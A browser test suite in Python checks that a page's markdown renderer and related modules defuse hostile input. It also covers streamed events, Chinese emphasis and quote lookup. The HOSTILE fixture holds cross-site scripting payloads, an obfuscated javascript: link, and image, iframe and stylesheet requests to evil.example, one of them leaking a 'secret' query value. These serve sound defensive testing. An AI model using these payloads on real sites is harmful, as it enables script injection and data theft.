"""The page's modules, driven inside the page: hostile text, stream parsing, quotes."""

import pytest

from tests.browser.conftest import Open

pytestmark = pytest.mark.browser

HOSTILE = """
# Heading <img src=x onerror="window.hacked=1">

<script>window.hacked=1</script><iframe src="https://evil.example/frame"></iframe>
<style>@import url(https://evil.example/s.css)</style>
![chart](https://evil.example/pixel.png?q=secret) ![[1]](https://evil.example/pixel2.png)
[click](javascript:window.hacked=1) [ok](https://evil.example/a) <https://evil.example/b> https://evil.example/c
[data](data:text/html,<script>window.hacked=1</script>) [vb](vbscript:x) [two](//evil.example/e)
<https://good.example@evil.example/user> [user](https://good.example:x@evil.example/manual?page=2)
<svg onload="window.hacked=1"></svg> <a href="jav&#x09;ascript:window.hacked=1">x</a>
[prefix](https://good.example/) [1](https://evil.example/mark) [ref][1] [1]

[1]: https://evil.example/reference "title"

[given](https://good.example/manual?page=2)

| a | b |
| - | -: |
| <b onclick="window.hacked=1">x</b> | 2 |

`[1]` \u2e280\u2e29
"""

RENDER = """async ([source, known]) => {
  const { render, linksIn } = await import("/static/markdown.js");
  const chip = (number, position) => {
    if (number !== 1) return null;
    const button = document.createElement("button");
    button.textContent = `chip ${number} at ${position}`;
    return button;
  };
  const place = document.body.appendChild(document.createElement("section"));
  place.append(render(source, { links: linksIn(known), chip }));
  place.querySelectorAll("*").forEach((one) => { if (one.click) one.click; });
  await new Promise((resolve) => setTimeout(resolve, 300));
  return {
    tags: [...new Set([...place.querySelectorAll("*")].map((one) => one.localName))].sort(),
    links: [...place.querySelectorAll("a")].map((one) => one.href),
    handlers: [...place.querySelectorAll("*")].flatMap((one) => [...one.attributes].map((a) => a.name))
      .filter((name) => name.startsWith("on")),
    chips: [...place.querySelectorAll("button")].map((one) => one.textContent),
    text: place.innerText,
    hacked: window.hacked ?? null,
  };
}"""


def test_hostile_answer_runs_nothing_and_reaches_nobody(open_page: Open) -> None:
    page = open_page("en")
    known = ["The manual is at https://good.example/manual?page=2."]
    shown = page.evaluate(RENDER, [HOSTILE, known])
    assert shown["hacked"] is None
    assert shown["handlers"] == []
    assert shown["links"] == ["https://good.example/manual?page=2"]
    assert not {"img", "script", "iframe", "style", "b"} & set(shown["tags"])
    assert "https://evil.example/a" in shown["text"]
    # Foreign requests and policy violations would be complaints, and fail the test in its teardown.


def test_marks_become_chips_with_their_place_in_code_points_but_not_in_code(open_page: Open) -> None:
    page = open_page("en")
    source = "**\U0001f600 好。**[1] then [1][2], `[1]` and [7](x)"
    shown = page.evaluate(RENDER, [source, []])
    assert shown["chips"] == ["chip 1 at 8", "chip 1 at 17"]
    assert "strong" in shown["tags"]
    assert "[2]" in shown["text"]
    assert "`" not in shown["text"]


def test_emphasis_beside_chinese_quotation_marks_is_no_row_of_asterisks(open_page: Open) -> None:
    page = open_page("zh")
    sources = [
        "**“引用”**中文",
        "他说**“好”**了。",
        "**《手册》**规定**（三天）**内",
        "a ** b ** 中",
        "2*3*4 __“甲”__乙",
    ]
    shown = page.evaluate("""async (sources) => {
      const { render } = await import("/static/markdown.js");
      return sources.map((source) => {
        const place = document.createElement("div");
        place.append(render(source, { links: new Set(), chip: () => null }));
        return place.innerHTML.trim();
      });
    }""", sources)
    assert shown == [
        "<p><strong>“引用”</strong>中文</p>",
        "<p>他说<strong>“好”</strong>了。</p>",
        "<p><strong>《手册》</strong>规定<strong>（三天）</strong>内</p>",
        "<p>a ** b ** 中</p>",
        "<p>2<em>3</em>4 __“甲”__乙</p>",
    ]


def test_growing_answer_ends_as_the_whole_one_would(open_page: Open) -> None:
    page = open_page("en")
    same = page.evaluate("""async () => {
      const { render, Growing } = await import("/static/markdown.js");
      const source = "# Title\\n\\nOne **two** [1].\\n\\n- a\\n- b\\n\\n" +
        "```py\\nx = 1\\n\\ny = 2\\n```\\n\\n" +
        "| a | b |\\n|---|---|\\n| 1 | 2 |\\n\\n1. one\\n\\n2. two\\n\\nlast";
      const context = { links: new Set(), chip: () => document.createElement("button") };
      const whole = document.createElement("div");
      whole.append(render(source, context));
      const target = document.createElement("div");
      const growing = new Growing(target, () => context);
      const drawn = new Set();
      for (const letter of source) {
        growing.text += letter;
        growing.draw();
        for (const block of target.children) if (block !== growing.tail) drawn.add(block);
      }
      growing.tail.replaceWith(...growing.tail.childNodes);
      const html = (node) => node.innerHTML.replace(/\\n+/g, "");
      return { same: html(target) === html(whole), blocks: drawn.size, got: html(target), want: html(whole) };
    }""")
    assert same["got"] == same["want"]
    assert same["blocks"] == 5  # each finished block was put there once


def test_events_are_read_whatever_the_chunks(open_page: Open) -> None:
    page = open_page("en")
    read = page.evaluate("""async () => {
      const { events } = await import("/static/stream.js");
      const text = ': ping\\n\\nevent: delta\\r\\nid: 1\\r\\ndata: {"text":\\r\\n' +
        'data: "\\u597d\\ud83d\\ude00"}\\r\\n\\r\\n' +
        'event: answer\\ndata:{"n":1}\\n\\nevent: lost\\ndata: {"n":2}\\n';
      const bytes = new TextEncoder().encode(text);
      const all = [];
      for (const size of [1, 2, 3, 7, bytes.length]) {
        const body = new ReadableStream({ start(controller) {
          for (let i = 0; i < bytes.length; i += size) controller.enqueue(bytes.slice(i, i + size));
          controller.close();
        } });
        const found = [];
        for await (const event of events(body)) found.push([event.name, event.data]);
        all.push(JSON.stringify(found));
      }
      return [...new Set(all)];
    }""")
    assert read == ['[["delta",{"text":"好\U0001f600"}],["answer",{"n":1}]]']


def test_quote_is_found_by_offset_then_by_text_and_never_guessed(open_page: Open) -> None:
    page = open_page("en")
    found = page.evaluate("""async () => {
      const { findQuote } = await import("/static/panel.js");
      const text = "\\ud83d\\ude00 same. other. same.";
      const at = (quote, start, from) =>
        findQuote(text, { quote, start, end: start + [...quote].length }, from);
      return [at("same.", 115, 100), at("same.", 3, null), at("same.", 990, 100), at("absent", 102, 100)];
    }""")
    assert found == [[16, 21], [3, 8], [3, 8], None]


def test_source_in_markdown_is_shown_as_its_reader_sees_it_with_the_quote_marked(open_page: Open) -> None:
    page = open_page("en")
    shown = page.evaluate("""async () => {
      const { rendered } = await import("/static/rendered.js");
      const text = "## Fix\\n\\n1. Check **the queue**: `kubectl get`.\\n2. Scale <b onclick=x>out</b>." +
        "\\n\\n| code | cause |\\n|---|---|\\n| CB-1 | full disk |\\n\\n" +
        "[x](https://evil.example/) ![i](https://evil.example/i.png)";
      const see = (quote) => {
        const view = rendered({ before: "# Before", text, after: "After *it*" }, quote);
        return view && { marks: [...view.querySelectorAll("mark")].map((one) => one.textContent),
          tags: [...new Set([...view.querySelectorAll(".own *")].map((one) => one.localName))].sort(),
          links: view.querySelectorAll("a, img, b, [onclick]").length };
      };
      return [see("**the queue**: `kubectl get`.\\n2. Scale"), see("| CB-1 | full disk |"),
        see("not there"), see("")];
    }""")
    assert shown[0]["marks"] == ["the queue", ": ", "kubectl get", ".", "Scale"]
    assert shown[1]["marks"] == ["CB-1", "full disk"]
    assert shown[2] is None
    assert shown[3]["marks"] == []
    assert {"h4", "ol", "strong", "code", "table"} <= set(shown[3]["tags"])
    assert shown[3]["links"] == 0


def test_words_to_copy_hold_neither_marks_nor_signs_of_markdown(open_page: Open) -> None:
    page = open_page("en")
    copied = page.evaluate("""async () => {
      const { render } = await import("/static/markdown.js");
      const { plainText, unmarked } = await import("/static/plain_text.js");
      const source = "Yes, **we** do.[1]\\n\\n1. first [1][2].\\n2. second\\n   - inner\\n\\n" +
        "| a | b |\\n|---|---|\\n| 1 | 2 |\\n\\n```\\nx = 1\\n```\\n\\n" +
        "[site](https://good.example/a) 好的 [1]。\\n\\n<b>x</b>";
      const place = document.createElement("div");
      const chip = () => {
        const button = document.createElement("button");
        button.className = "chip";
        button.textContent = "9";
        return button;
      };
      place.append(render(source, { links: new Set(["https://good.example/a"]), chip }));
      return [plainText(place), unmarked("Yes [1][2], **we** do [3].")];
    }""")
    assert copied == [
        "Yes, we do.\n\n1. first.\n2. second\n   - inner\n\na\tb\n1\t2\n\nx = 1\n\n"
        "site (https://good.example/a) 好的。\n\n<b>x</b>",
        "Yes, **we** do.",
    ]


def test_hostile_approved_answer_runs_nothing_and_reaches_nobody(open_page: Open) -> None:
    page = open_page("en")
    shown = page.evaluate("""async (source) => {
      const { offersPart } = await import("/static/offers.js");
      const offer = { snippet_id: source, question: source, answer: source, note: source,
        owner: { id: source, name: source }, expires_on: "2027-01-31", relevance: 1, state: "approved" };
      const place = document.body.appendChild(document.createElement("section"));
      place.append(offersPart([offer, { ...offer, state: "expired" }]));
      place.querySelectorAll("*").forEach((one) => { if (one.click) one.click(); });
      await new Promise((resolve) => setTimeout(resolve, 300));
      return { links: place.querySelectorAll("a").length, hacked: window.hacked ?? null,
        foreign: place.querySelectorAll("img, script, iframe, style, b").length };
    }""", HOSTILE)
    assert shown == {"links": 0, "hacked": None, "foreign": 0}
